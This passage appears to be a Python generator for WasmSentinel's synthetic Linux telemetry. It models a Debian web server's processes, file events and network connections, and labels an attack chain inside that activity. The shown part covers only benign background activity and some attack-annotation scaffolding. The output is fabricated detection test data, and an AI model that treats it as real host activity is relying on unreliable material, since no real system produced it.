#!/usr/bin/env python3
"""Generate WasmSentinel's bundled sample data (deterministic: fixed seed, no wall clock, stdlib only).

Writes, relative to the repository root:
  data/sample/linux-activity.jsonl    ECS JSON lines: ~2 h of activity on one Debian 12 web server
                                      ("web-01"), mostly benign, with one embedded attack chain.
  data/sample/attack-event-ids.txt    event.id of every attack event, one per line.
and refreshes the generated blocks of docs/sample-data.md (between the
"<!-- BEGIN GENERATED: ... -->" / "<!-- END GENERATED: ... -->" markers).

Usage:
  python3 scripts/gen_sample_log.py            # (re)write the files
  python3 scripts/gen_sample_log.py --check    # regenerate in memory, fail if the files differ

The output is validated before anything is written (every line parses, ids unique, sequence and
timestamps ordered, vocabulary respected, process lineage consistent); any violation aborts.

Collector conventions this log follows (see docs/sample-data.md for the full list):
  * process.name is the kernel comm: basename of the path handed to execve, cut to 15 chars.
  * process.executable is that file with symlinks resolved (/bin/sh -> /usr/bin/dash). A script
    started through its #! line has the script itself as executable.
  * Actions are Elastic Defend's (end, uid_change, creation, modification, deletion,
    connection_attempted …). process.user / process.group and process.real_user / real_group
    are the same ids here: the log does not model effective ids (a setuid binary such as sudo or
    passwd keeps the caller's id until it calls setuid(); uid_change/gid_change events carry the
    new id in user.id/group.id).
  * fork shows the child (new pid/entity_id) still running its parent's image; exec replaces the
    image in place (same pid and entity_id); an orphan is re-parented to pid 1 (or to the nearest
    child subreaper, e.g. containerd-shim) for its later events.
  * file.path is absolute but not symlink-resolved (it is the path the program asked for).
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import json
import posixpath
import random
import re
import sys
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from pathlib import Path

# --------------------------------------------------------------------------------------------
# Constants
# --------------------------------------------------------------------------------------------
SEED = 20261120
HOST = {"name": "web-01", "id": "7c1e4f2a-93b5-4d08-a6e1-5b2f0c9d3e71"}
HOST_IP4 = "10.0.0.21"
HOST_IP6 = "2001:db8:10::21"
T0 = datetime(2026, 11, 20, 9, 0, 0, tzinfo=timezone.utc)
BOOT = datetime(2026, 11, 17, 6, 12, 40, tzinfo=timezone.utc)
US = 1_000_000
ATTACKER = "203.0.113.50"
MACHINE_ID = "b3a91c07e5d24f6a8c1e0d9f72a4b615"
ARCHIVED_JOURNALS = ("system@0b1d3a2f9c1e4f58a7d6c3b2e1f0a9d8-0000000000184c2a-0006432e7c1b5a11.journal",
                     "system@0b1d3a2f9c1e4f58a7d6c3b2e1f0a9d8-00000000001a9f03-000643a1d2e40c77.journal",
                     "user-1000@5e2c8d1a0b7f4c39a6e1d2f3b4c5d6e7-00000000001a9f11-000643a1d3b09a12.journal")
KVER = "6.1.0-27-amd64"
FIRST_PID = 148_023  # pid counter when the log starts (host up ~3 days)

REPO = Path(__file__).resolve().parent.parent
OUT_LOG = REPO / "data/sample/linux-activity.jsonl"
OUT_IDS = REPO / "data/sample/attack-event-ids.txt"
DOC = REPO / "docs/sample-data.md"

USERS = {0: "root", 6: "man", 33: "www-data", 42: "_apt", 109: "prometheus",
         990: "systemd-resolve", 1000: "admin", 1001: "maria"}
GROUPS = {0: "root", 4: "adm", 12: "man", 33: "www-data", 42: "shadow", 115: "prometheus",
          990: "systemd-resolve", 1000: "admin", 1001: "maria", 65534: "nogroup"}

# Names resolved by DNS (documentation ranges only for anything outside 10.0.0.0/24).
DNS = {
    "deb.debian.org": "198.51.100.130",
    "security.debian.org": "198.51.100.131",
    "git.example.com": "198.51.100.20",
    "api.example.net": "198.51.100.80",
    "pypi.org": "198.51.100.90",
    "files.pythonhosted.org": "198.51.100.91",
    "registry-1.docker.io": "198.51.100.60",
    "auth.docker.io": "198.51.100.61",
    "production.cloudflare.docker.com": "198.51.100.62",
    "db.internal": "10.0.0.12",
}
DB_IP = "10.0.0.12"
UPSTREAM_DNS = "10.0.0.2"

# Symlinks a collector resolves when it reports process.executable (Debian 12, usrmerge).
REAL = {
    "/bin/sh": "/usr/bin/dash", "/usr/bin/sh": "/usr/bin/dash",
    "/bin/bash": "/usr/bin/bash",
    "/usr/bin/python3": "/usr/bin/python3.11",
    "/usr/bin/php": "/usr/bin/php8.2",
    "/usr/bin/vim": "/usr/bin/vim.basic", "/usr/bin/vi": "/usr/bin/vim.basic",
    "/usr/bin/editor": "/usr/bin/vim.basic",
    "/usr/bin/cc": "/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/gcc": "/usr/bin/x86_64-linux-gnu-gcc-12",
    "/usr/bin/as": "/usr/bin/x86_64-linux-gnu-as",
    "/usr/bin/ld": "/usr/bin/x86_64-linux-gnu-ld.bfd",
    "/usr/bin/awk": "/usr/bin/mawk",
    "/usr/sbin/insmod": "/usr/bin/kmod", "/usr/sbin/modprobe": "/usr/bin/kmod",
    "/sbin/modprobe": "/usr/bin/kmod", "/usr/bin/lsmod": "/usr/bin/kmod",
    "/usr/bin/convert": "/usr/bin/convert-im6.q16",
    "/usr/bin/pager": "/usr/bin/less",
    "/bin/gzip": "/usr/bin/gzip",
    "/sbin/start-stop-daemon": "/usr/sbin/start-stop-daemon",
}
SBIN = {"useradd", "groupadd", "adduser", "logrotate", "nginx", "insmod", "modprobe", "sysctl",
        "invoke-rc.d", "start-stop-daemon", "sshd", "cron", "ldconfig"}

EVENT_TYPE = {
    "exec": "start", "fork": "start", "end": "end", "uid_change": "change", "gid_change": "change",
    "ptrace": "access", "memfd_create": "creation",
    "open": "access", "modification": "change", "creation": "creation", "deletion": "deletion",
    "rename": "change", "chmod": "change", "chown": "change",
    "connection_attempted": "start", "connection_accepted": "start", "bind": "start",
    "load_module": "start",
}
CATEGORY_OF = {
    **{a: "process" for a in ("exec", "fork", "end", "uid_change", "gid_change", "ptrace", "memfd_create")},
    **{a: "file" for a in ("open", "modification", "creation", "deletion", "rename", "chmod", "chown")},
    **{a: "network" for a in ("connection_attempted", "connection_accepted", "bind")},
    "load_module": "process",
}
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def at(h: int, m: int, s: float = 0.0) -> int:
    """Microseconds since T0 (09:00:00Z) for wall time h:m:s on 2026-11-20."""
    return int(round(((h - 9) * 3600 + m * 60 + s) * US))


END_T = at(10, 59, 59)


def ts(t: int) -> str:
    dt = T0 + timedelta(microseconds=t)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)


def resolve(argv0: str, cwd: str, path: str | None = None) -> tuple[str, str]:
    """(comm, executable) for an execve of argv0 (or explicit path) from cwd."""
    inv = path
    if inv is None:
        inv = argv0 if "/" in argv0 else ("/usr/sbin/" if argv0 in SBIN else "/usr/bin/") + argv0
    if not inv.startswith("/"):
        inv = posixpath.normpath(posixpath.join(cwd, inv))
    return posixpath.basename(inv)[:15], REAL.get(inv, inv)


def file_fields(path: str) -> dict:
    d, n = posixpath.split(path)
    out = {"path": path, "name": n}
    ext = posixpath.splitext(n)[1]
    if ext and ext != ".":
        out["extension"] = ext[1:]
    out["directory"] = d or "/"
    return out


# --------------------------------------------------------------------------------------------
# Model
# --------------------------------------------------------------------------------------------
class Image:
    """What a process is running: immutable, replaced on exec/setuid/chdir."""
    __slots__ = ("name", "exe", "args", "cwd", "uid", "gid", "container")

    def __init__(self, name, exe, args, cwd, uid, gid, container=None):
        self.name, self.exe, self.args, self.cwd = name, exe, tuple(args), cwd
        self.uid, self.gid, self.container = uid, gid, container

    def replace(self, **kw) -> "Image":
        d = {k: getattr(self, k) for k in self.__slots__}
        d.update(kw)
        return Image(**d)


class Proc:
    _serial = 0

    def __init__(self, image, start, parent, pid=None, pre=False, subreaper=False):
        Proc._serial += 1
        self.serial = Proc._serial
        self.image, self.start, self.parent = image, start, parent
        self.pid, self.pre, self.subreaper = pid, pre, subreaper
        self.alive = True
        self.shared = pre  # long-lived process that several scenarios emit events on
        self.children: list[Proc] = []
        self.t = start  # time of this process's latest event
        self.eid = None


class Ev:
    __slots__ = ("t", "ctr", "proc", "img", "parent", "pimg", "action", "extra", "outcome",
                 "exit_code", "attack")


class World:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.events: list[Ev] = []
        self.procs: list[Proc] = []
        self.ctr = 0
        self.actx = None
        self.R: dict[str, Proc] = {}
        self.sudo_last: dict[int, int] = {}
        self.nginx_epochs: list[tuple[int, int, list[Proc]]] = []

    # ---- randomness -------------------------------------------------------------------------
    def ms(self, a: float, b: float) -> int:
        return int(self.rng.uniform(a, b) * 1000)

    def sec(self, a: float, b: float) -> int:
        return int(self.rng.uniform(a, b) * US)

    def eport(self) -> int:
        return self.rng.randint(32768, 60999)

    def tmpname(self, n: int = 6) -> str:
        return "".join(self.rng.choice(ALNUM) for _ in range(n))

    # ---- attack annotation ------------------------------------------------------------------
    @contextmanager
    def attack(self, tech: str, step: str | None = None, note: str | None = None):
        prev = self.actx
        ctx = dict(prev) if prev else {}
        ctx["tech"] = tech
        if step:
            ctx["step"] = step
        ctx["note"] = note
        self.actx = ctx
        try:
            yield
        finally:
            self.actx = prev

    # ---- processes --------------------------------------------------------------------------
    def root(self, key, pid, argv, cwd, uid, gid, start, parent=None, exe=None, name=None,
             subreaper=False, container=None):
        n, e = resolve(argv[0], cwd, exe)
        img = Image(name or n, exe or e, argv, cwd, uid, gid, container)
        p = Proc(img, start, parent, pid=pid, pre=True, subreaper=subreaper)
        if parent:
            parent.children.append(p)
        self.procs.append(p)
        self.R[key] = p
        return p

    def emit(self, t, p, action, extra=None, outcome="success", exit_code=None):
        if not p.alive and not p.shared:
            raise AssertionError(f"event {action} on exited process {p.image.args}")
        if not p.shared:
            if t < p.t:
                raise AssertionError(f"time goes back on {p.image.args}: {action}")
            p.t = t
        self.ctr += 1
        ev = Ev()
        ev.t, ev.ctr, ev.proc, ev.img = t, self.ctr, p, p.image
        ev.parent = p.parent
        ev.pimg = p.parent.image if p.parent else None
        ev.action, ev.extra, ev.outcome, ev.exit_code = action, extra or {}, outcome, exit_code
        ev.attack = dict(self.actx) if self.actx else None
        self.events.append(ev)
        return ev

    def fork(self, parent: Proc, t: int) -> Proc:
        c = Proc(parent.image, t, parent)
        parent.children.append(c)
        self.procs.append(c)
        self.emit(t, c, "fork", outcome=None)
        return c

    def exec(self, p: Proc, t: int, argv, path=None, exe=None, cwd=None, name=None,
             container=None):
        cwd = cwd or p.image.cwd
        n, e = resolve(argv[0], cwd, path)
        p.image = p.image.replace(name=name or n, exe=exe or e, args=tuple(argv), cwd=cwd,
                                  container=container if container is not None else p.image.container)
        self.emit(t, p, "exec")
        return t

    def spawn(self, parent, t, argv, **kw) -> Proc:
        c = self.fork(parent, t)
        self.exec(c, t + self.ms(0.1, 0.9), argv, **kw)
        return c

    def exit(self, p: Proc, t: int, code: int = 0):
        self.emit(t, p, "end", outcome="success" if code == 0 else "failure", exit_code=code)
        p.alive = False
        heir = p.parent
        while heir is not None and not heir.subreaper and heir.pid != 1:
            heir = heir.parent
        heir = heir or self.R["systemd"]
        for c in p.children:
            if c.alive:
                c.parent = heir
                heir.children.append(c)
        return t

    def run(self, parent, t, argv, body=None, dur=(1.0, 15.0), code=0, **kw) -> int:
        """fork+exec argv, run body(proc, t) -> t, exit. Returns exit time."""
        c = self.spawn(parent, t, argv, **kw)
        tt = c.t + self.ms(0.2, 2.0)
        if body:
            tt = body(c, tt) or tt
        tt = max(tt, c.t) + self.ms(*dur)
        self.exit(c, tt, code)
        return tt

    def chdir(self, p: Proc, path: str):
        p.image = p.image.replace(cwd=path)

    def setuid(self, p, t, uid):
        self.emit(t, p, "uid_change", {"user": {"id": str(uid), "name": USERS[uid]}})
        p.image = p.image.replace(uid=uid)
        return t

    def setgid(self, p, t, gid):
        self.emit(t, p, "gid_change", {"group": {"id": str(gid), "name": GROUPS[gid]}})
        p.image = p.image.replace(gid=gid)
        return t

    # ---- files ------------------------------------------------------------------------------
    def _abs(self, p, path):
        return path if path.startswith("/") else posixpath.normpath(posixpath.join(p.image.cwd, path))

    def fop(self, p, t, action, path, **more):
        f = file_fields(self._abs(p, path))
        f.update(more)
        self.emit(t, p, action, {"file": f})
        return t

    def open(self, p, t, path):
        return self.fop(p, t, "open", path)

    def write(self, p, t, path):
        return self.fop(p, t, "modification", path)

    def create(self, p, t, path):
        return self.fop(p, t, "creation", path)

    def unlink(self, p, t, path):
        return self.fop(p, t, "deletion", path)

    def rename(self, p, t, old, new):
        return self.fop(p, t, "rename", new, original_path=self._abs(p, old))

    def chmod(self, p, t, path, mode):
        return self.fop(p, t, "chmod", path, mode=mode)

    def chown(self, p, t, path, uid, gid):
        return self.fop(p, t, "chown", path, uid=str(uid), owner=USERS[uid], gid=str(gid),
                        group=GROUPS[gid])

    # ---- network ----------------------------------------------------------------------------
    @staticmethod
    def _ntype(ip):
        return "ipv6" if ":" in ip else "ipv4"

    def connect(self, p, t, ip, port, transport="tcp", sport=None):
        src = "127.0.0.1" if ip.startswith("127.") else (HOST_IP6 if ":" in ip else HOST_IP4)
        self.emit(t, p, "connection_attempted", {
            "source": {"ip": src, "port": sport or self.eport()},
            "destination": {"ip": ip, "port": port},
            "network": {"direction": "egress", "transport": transport, "type": self._ntype(ip)}})
        return t

    def accept(self, p, t, cip, cport, lport, lip=None):
        lip = lip or ("127.0.0.1" if cip.startswith("127.") else (HOST_IP6 if ":" in cip else HOST_IP4))
        self.emit(t, p, "connection_accepted", {
            "source": {"ip": cip, "port": cport},
            "destination": {"ip": lip, "port": lport},
            "network": {"direction": "ingress", "transport": "tcp", "type": self._ntype(cip)}})
        return t

    def bind(self, p, t, ip, port, transport="tcp"):
        self.emit(t, p, "bind", {"source": {"ip": ip, "port": port},
                                 "network": {"transport": transport, "type": self._ntype(ip)}})
        return t

    def dns(self, p, t, name) -> int:
        """Stub-resolver query from p, maybe followed by systemd-resolved going upstream."""
        self.connect(p, t, "127.0.0.53", 53, "udp")
        if self.rng.random() < 0.4:
            self.connect(self.R["resolved"], t + self.ms(0.1, 0.4), UPSTREAM_DNS, 53, "udp")
        return t + self.ms(0.8, 18)

    def https(self, p, t, name, port=443) -> int:
        t = self.dns(p, t, name)
        self.connect(p, t, DNS[name], port)
        return t

    # ---- misc -------------------------------------------------------------------------------
    def load_module(self, p, t, path):
        self.emit(t, p, "load_module", {"file": file_fields(path)})
        return t

    def memfd(self, p, t, name):
        self.emit(t, p, "memfd_create", {"file": {"name": "memfd:" + name}})
        return t

    def ptrace(self, p, t, target: Proc):
        self.emit(t, p, "ptrace", {"target": {"process": {"_proc": target}}})
        return t


# --------------------------------------------------------------------------------------------
# Shared building blocks
# --------------------------------------------------------------------------------------------
def sudo(w: World, shell: Proc, t: int, cmd: list, body=None, fails=0, ctrl_c=False,
         nopasswd=False, dur=(1, 8), code=0, cmd_path=None, opts=()) -> int:
    """`sudo [opts] cmd` from an interactive shell. fails = mistyped passwords; with ctrl_c or
    3 failures sudo gives up (exit 1). Successful runs: child does setgid/setuid 0, execs cmd."""
    uid = shell.image.uid
    s = w.spawn(shell, t, ["sudo", *opts, *cmd])
    tt = s.t + w.ms(0.5, 2)
    w.open(s, tt, "/etc/sudoers")
    need_pw = not nopasswd and (t - w.sudo_last.get(uid, -10**12) > 15 * 60 * US)
    if need_pw or fails:
        for i in range(fails):
            tt += w.sec(1.8, 4.5)  # typing
            w.open(s, tt, "/etc/shadow")  # pam_unix verifies ... and fails
            tt += w.sec(2.0, 2.4)  # pam_faildelay
            if i == 2:
                break
        if fails >= 3 or ctrl_c:
            tt += w.sec(0.5, 3) if ctrl_c else w.ms(5, 30)
            w.exit(s, tt, 1)
            return tt
        tt += w.sec(1.5, 4)
        w.open(s, tt, "/etc/shadow")
    w.sudo_last[uid] = t
    tt += w.ms(2, 9)
    c = w.fork(s, tt)
    tt += w.ms(0.1, 0.4)
    w.setgid(c, tt, 0)
    tt += w.ms(0.02, 0.1)
    w.setuid(c, tt, 0)
    tt += w.ms(0.1, 0.5)
    w.exec(c, tt, cmd, path=cmd_path)
    tt = c.t + w.ms(0.3, 2)
    if body:
        tt = body(c, tt) or tt
    tt = max(tt, c.t) + w.ms(*dur)
    w.exit(c, tt, code)
    tt += w.ms(0.3, 1.5)
    w.exit(s, tt, code)
    return tt


def cron_job(w: World, t: int, cmd: str, uid: int, gid: int, body) -> int:
    """Debian cron: daemon forks a per-job child (PAM account check reads /etc/shadow), which
    forks the job process; that one drops privileges and execs /bin/sh -c cmd."""
    cron = w.R["cron"]
    c1 = w.fork(cron, t)
    tt = t + w.ms(0.3, 1.2)
    w.open(c1, tt, "/etc/shadow")
    tt += w.ms(0.5, 2.5)
    c2 = w.fork(c1, tt)
    tt += w.ms(0.1, 0.5)
    if uid != 0:
        w.setgid(c2, tt, gid)
        tt += w.ms(0.02, 0.1)
        w.setuid(c2, tt, uid)
        tt += w.ms(0.05, 0.3)
    home = {0: "/root", 33: "/var/www"}[uid]
    w.exec(c2, tt, ["/bin/sh", "-c", cmd], cwd=home)
    tt = c2.t + w.ms(0.3, 1.5)
    tt = body(c2, tt) or tt
    tt = max(tt, c2.t) + w.ms(0.2, 2)
    if c2.alive:
        w.exit(c2, tt, 0)
    tt += w.ms(0.3, 2)
    w.exit(c1, tt, 0)
    return tt


def systemd_unit(w: World, t: int, argv, uid=0, gid=0, path=None) -> Proc:
    """systemd (pid 1) forks a service process, drops privileges, execs."""
    c = w.fork(w.R["systemd"], t)
    tt = t + w.ms(0.3, 1.5)
    if uid:
        w.setgid(c, tt, gid)
        tt += w.ms(0.02, 0.1)
        w.setuid(c, tt, uid)
        tt += w.ms(0.05, 0.3)
    w.exec(c, tt, argv, path=path, cwd="/")
    return c


def vim_edit(w: World, shell: Proc, t: int, path: str, home: str, secs=(40, 300), write=True,
             argv0="vim") -> int:
    """Debian vim: swap file, and on :w the 'writebackup' dance (4913 probe, rename to file~,
    write new file, delete backup), then .viminfo via a temp file."""
    v = w.spawn(shell, t, [argv0, path])
    full = w._abs(v, path)
    d, n = posixpath.split(full)
    tt = v.t + w.ms(3, 15)
    w.open(v, tt, f"{home}/.viminfo")
    tt += w.ms(1, 4)
    w.open(v, tt, full)
    tt += w.ms(1, 5)
    w.create(v, tt, f"{d}/.{n}.swp")
    tt += w.sec(*secs)
    if write:
        w.create(v, tt, f"{d}/4913")
        tt += w.ms(0.05, 0.2)
        w.unlink(v, tt, f"{d}/4913")
        tt += w.ms(0.05, 0.2)
        w.rename(v, tt, full, full + "~")
        tt += w.ms(0.1, 0.5)
        w.create(v, tt, full)
        tt += w.ms(0.5, 3)
        w.unlink(v, tt, full + "~")
        tt += w.sec(0.8, 6)
    w.unlink(v, tt, f"{d}/.{n}.swp")
    tt += w.ms(0.3, 1)
    w.create(v, tt, f"{home}/.viminfz.tmp")
    tt += w.ms(0.2, 1)
    w.rename(v, tt, f"{home}/.viminfz.tmp", f"{home}/.viminfo")
    tt += w.ms(1, 5)
    w.exit(v, tt, 0)
    return tt


def think(w: World, a=2.0, b=25.0) -> int:
    return w.sec(a, b)


# --------------------------------------------------------------------------------------------
# Already-running processes
# --------------------------------------------------------------------------------------------
REDIS_CID = hashlib.sha256(b"web-01 redis container").hexdigest()


def boot(w: World):
    b = int((BOOT - T0).total_seconds() * US)
    sysd = w.root("systemd", 1, ["/sbin/init"], "/", 0, 0, b, exe="/usr/lib/systemd/systemd",
                  name="systemd")
    w.root("resolved", 402, ["/lib/systemd/systemd-resolved"], "/", 990, 990, b + 2_900_000, sysd)
    w.root("cron", 587, ["/usr/sbin/cron", "-f"], "/", 0, 0, b + 4_100_000, sysd)
    w.root("sshd", 612, ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], "/", 0, 0,
           b + 4_300_000, sysd, exe="/usr/sbin/sshd", name="sshd")
    w.root("containerd", 702, ["/usr/bin/containerd"], "/", 0, 0, b + 4_900_000, sysd)
    fpm = w.root("php-fpm", 790, ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"], "/",
                 0, 0, b + 5_200_000, sysd, exe="/usr/sbin/php-fpm8.2", name="php-fpm8.2")
    for i, pid in enumerate((1041, 1042, 1043)):
        w.root(f"fpm{i}", pid, ["php-fpm: pool www"], "/", 33, 33, b + 5_230_000 + i * 900, fpm,
               exe="/usr/sbin/php-fpm8.2", name="php-fpm8.2")
    ngx = w.root("nginx", 811, ["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
                 "/", 0, 0, b + 5_400_000, sysd, exe="/usr/sbin/nginx", name="nginx")
    ws = [w.root(f"ngxw{i}", pid, ["nginx: worker process"], "/", 33, 33, b + 5_420_000 + i * 700, ngx,
                 exe="/usr/sbin/nginx", name="nginx") for i, pid in enumerate((812, 813))]
    w.nginx_epochs.append((-10**13, None, ws))
    w.root("dockerd", 845, ["/usr/bin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock"],
           "/", 0, 0, b + 6_800_000, sysd)
    w.root("shim", 1532, ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", REDIS_CID,
                          "-address", "/run/containerd/containerd.sock"], "/", 0, 0, b + 9_100_000, sysd,
           subreaper=True)
    # admin's SSH session, opened at 08:41
    a0 = at(8, 41, 22.4)
    priv = w.root("admin_priv", 147611, ["sshd: admin [priv]"], "/", 0, 0, a0, w.R["sshd"],
                  exe="/usr/sbin/sshd", name="sshd")
    sess = w.root("admin_sess", 147640, ["sshd: admin@pts/0"], "/", 1000, 1000, a0 + 410_000, priv,
                  exe="/usr/sbin/sshd", name="sshd")
    w.root("admin_bash", 147641, ["-bash"], "/home/admin", 1000, 1000, a0 + 415_000, sess,
           exe="/usr/bin/bash", name="bash")


# --------------------------------------------------------------------------------------------
# Background (daemons, timers, cron, traffic)
# --------------------------------------------------------------------------------------------
def nginx_workers_at(w: World, t: int):
    for start, end, ws in w.nginx_epochs:
        if t >= start and (end is None or t < end):
            return ws
    return None


CLIENTS = (["198.51.100.%d" % i for i in (7, 12, 23, 31, 44, 58, 66, 71, 89, 102, 117, 143, 150, 166, 178,
                                             191, 204, 219, 233, 247)]
           + ["192.0.2.%d" % i for i in (14, 27, 39, 53, 61, 77, 88, 95, 110, 126, 139, 158, 172, 185, 213)]
           + ["203.0.113.%d" % i for i in (4, 9, 17, 26, 38, 61, 73, 84, 97, 118, 131, 162, 199, 221, 240)])
CLIENTS6 = ["2001:db8:4f1::%x" % i for i in (0x12, 0x3a, 0x51, 0x7c, 0xa2)] + \
           ["2001:db8:9c0:1::%x" % i for i in (0x5, 0x2b, 0x40)]
MONITOR = "192.0.2.200"


def web_traffic(w: World):
    """nginx accepting HTTPS (and some :80 redirects) from the Internet, an uptime monitor every
    60 s, php-fpm workers talking to PostgreSQL and to an external API, thumbnails via convert."""
    rng = w.rng
    weights = [rng.paretovariate(1.3) for _ in CLIENTS]
    t = w.ms(50, 900)
    while t < END_T:
        ws = nginx_workers_at(w, t)
        if ws:
            if rng.random() < 0.08:
                cip, cport = rng.choice(CLIENTS6), rng.randint(49152, 65535)
            else:
                cip = rng.choices(CLIENTS, weights)[0]
                cport = rng.randint(32768, 60999) if rng.random() < 0.6 else rng.randint(49152, 65535)
            w.accept(rng.choice(ws), t, cip, cport, 443 if rng.random() < 0.9 else 80)
        # busier towards 10:00-10:30
        minute = t / (60 * US)
        rate = 3.0 + 1.7 * (1 - abs(minute - 75) / 75)  # per minute
        t += int(rng.expovariate(rate / 60.0) * US) + w.ms(1, 5)
    t = at(9, 0, 41.2)  # external uptime monitor, every 2 min
    while t < END_T:
        ws = nginx_workers_at(w, t)
        if ws:
            w.accept(rng.choice(ws), t, MONITOR, rng.randint(32768, 60999), 443)
        t += w.sec(119.6, 120.4)
    fpm = [w.R[f"fpm{i}"] for i in range(3)]
    t = w.sec(5, 40)
    while t < END_T:
        w.connect(rng.choice(fpm), t, DB_IP, 5432)
        t += int(rng.expovariate(1 / 55.0) * US) + w.sec(2, 6)
    t = w.sec(200, 500)
    while t < END_T:
        p = rng.choice(fpm)
        t2 = w.dns(p, t, "api.example.net")
        w.connect(p, t2, DNS["api.example.net"], 443)
        t += w.sec(300, 900)
    # thumbnails: php-fpm -> convert (proc_open with an argv array: no shell)
    for hh, mm, ss in ((9, 12, 5.2), (9, 31, 44.9), (10, 6, 13.0), (10, 27, 51.7), (10, 48, 9.3)):
        t = at(hh, mm, ss)
        n = rng.randint(4000, 9999)
        src = f"/var/www/app/storage/uploads/u_{n}.jpg"
        dst = f"/var/www/app/storage/thumbs/u_{n}_320.jpg"

        def body(c, tt, src=src, dst=dst):
            w.open(c, tt, "/etc/ImageMagick-6/policy.xml")
            w.open(c, tt + w.ms(1, 3), src)
            w.create(c, tt + w.ms(60, 240), dst)
            return tt + w.ms(250, 260)
        w.run(rng.choice(fpm), t, ["convert", src, "-auto-orient", "-resize", "320x320>", "-strip", dst],
              body=body, dur=(2, 10), cwd="/")


def ssh_scanners(w: World):
    """Internet background noise on :22 — connections that never authenticate."""
    for hh, mm, ss, ip in ((9, 3, 2.5, "198.51.100.201"), (9, 19, 40.8, "192.0.2.77"),
                           (9, 36, 11.1, "203.0.113.188"), (9, 58, 27.6, "198.51.100.55"),
                           (10, 14, 3.3, "192.0.2.141"), (10, 29, 49.0, "203.0.113.7"),
                           (10, 43, 18.2, "198.51.100.222"), (10, 56, 36.9, "192.0.2.19")):
        t = at(hh, mm, ss)
        sshd = w.R["sshd"]
        w.accept(sshd, t, ip, w.rng.randint(32768, 65000), 22)
        c = w.spawn(sshd, t + w.ms(0.3, 1), ["/usr/sbin/sshd", "-D", "-R"])
        w.exit(c, c.t + w.sec(0.2, 20), 255)


def redis_healthcheck(w: World):
    """Docker HEALTHCHECK of the redis container every 10 min: shim -> runc exec -> runc init ->
    redis-cli (inside the container)."""
    shim = w.R["shim"]
    base = "/run/containerd/io.containerd.runtime.v2.task/moby/" + REDIS_CID
    t = at(9, 2, 13.4)
    while t < END_T - 30 * US:
        execid = hashlib.sha256(f"exec{t}".encode()).hexdigest()
        n = w.rng.randint(100000000, 999999999)
        w.create(shim, t, f"/tmp/runc-process{n}")
        r = w.spawn(shim, t + w.ms(0.5, 2), ["runc", "--root", "/var/run/docker/runtime-runc/moby", "--log",
                                              base + "/log.json", "--log-format", "json", "exec", "--process",
                                              f"/tmp/runc-process{n}", "--detach", "--pid-file",
                                              f"{base}/{execid}.pid", REDIS_CID], cwd=base)
        i = w.fork(r, r.t + w.ms(3, 8))
        w.exec(i, i.t + w.ms(0.2, 1), ["runc", "init"], path="/proc/self/exe", exe="/usr/bin/runc",
               name="runc:[2:INIT]")
        tt = i.t + w.ms(8, 25)
        w.exit(r, tt, 0)
        w.exec(i, tt + w.ms(0.5, 3), ["redis-cli", "ping"], path="/usr/local/bin/redis-cli", cwd="/data",
               container=REDIS_CID)
        w.exit(i, i.t + w.ms(2, 9), 0)
        t += w.sec(599.5, 600.5)


def sessionclean_timer(w: World):
    """Debian php-common's phpsessionclean.timer (:09 and :39)."""
    for hh, mm in ((9, 9), (9, 39), (10, 9), (10, 39)):
        t = at(hh, mm, w.rng.uniform(0.05, 0.9))
        sc = systemd_unit(w, t, ["/bin/sh", "-e", "/usr/lib/php/sessionclean"], path="/usr/lib/php/sessionclean")
        tt = sc.t + w.ms(2, 6)
        for sapi in ("fpm", "cli"):
            tt = w.run(sc, tt, ["php8.2", "-c", f"/etc/php/8.2/{sapi}/php.ini", "-d", "error_reporting='~E_ALL'",
                                "-r", 'foreach(ini_get_all("session") as $k => $v) echo "$k=".$v["local_value"]."\\n";'],
                       body=lambda c, x, s=sapi: w.open(c, x + w.ms(2, 6), f"/etc/php/8.2/{s}/php.ini") + w.ms(10, 30),
                       dur=(2, 8), cwd="/") + w.ms(0.5, 2)
        tt = w.run(sc, tt, ["sort", "-rn", "-t:", "-k2,2"], dur=(0.5, 2), cwd="/") + w.ms(0.5, 2)

        def body(c, x):
            for _ in range(w.rng.randint(1, 5)):
                x += w.ms(0.2, 1.5)
                w.unlink(c, x, "/var/lib/php/sessions/sess_" + "".join(
                    w.rng.choice("abcdefghijklmnopqrstuv0123456789") for _ in range(26)))
            return x
        tt = w.run(sc, tt, ["find", "-O3", "/var/lib/php/sessions/", "-ignore_readdir_race", "-depth", "-mindepth",
                            "1", "-name", "sess_*", "-type", "f", "-cmin", "+24", "-delete"], body=body, dur=(1, 6),
                   cwd="/")
        w.exit(sc, tt + w.ms(0.5, 2), 0)


def sysstat(w: World):
    """sysstat-collect.timer every 10 min: debian-sa1 -> sa1 -> sadc writing /var/log/sysstat."""
    for k in range(12):
        t = at(9, 10 * k, w.rng.uniform(0.1, 1.8))
        p = systemd_unit(w, t, ["/bin/sh", "/usr/lib/sysstat/debian-sa1", "1", "1"],
                         path="/usr/lib/sysstat/debian-sa1")
        tt = p.t + w.ms(1, 4)
        w.open(p, tt, "/etc/default/sysstat")
        tt += w.ms(1, 3)
        w.exec(p, tt, ["/bin/sh", "/usr/lib/sysstat/sa1", "1", "1"], path="/usr/lib/sysstat/sa1")
        tt = w.run(p, p.t + w.ms(1, 3), ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1",
                                         "/var/log/sysstat"],
                   body=lambda c, x: w.write(c, x + w.ms(2, 8), "/var/log/sysstat/sa20") + w.ms(1, 4),
                   dur=(1000, 1010))
        w.exit(p, tt + w.ms(0.5, 2), 0)


def cron_scheduler(w: World):
    """www-data's crontab: `*/10 * * * * cd /var/www/app && php artisan schedule:run`. At :00
    Laravel runs inventory:sync, through /bin/sh -c (Symfony Process), which calls an API."""
    for k in range(12):
        t = at(9, 10 * k, w.rng.uniform(0.02, 0.4))
        hourly = k % 6 == 0

        def body(sh, tt, hourly=hourly):
            w.exec(sh, tt, ["php", "artisan", "schedule:run"], cwd="/var/www/app")  # dash execs last command
            tt = sh.t + w.ms(20, 60)
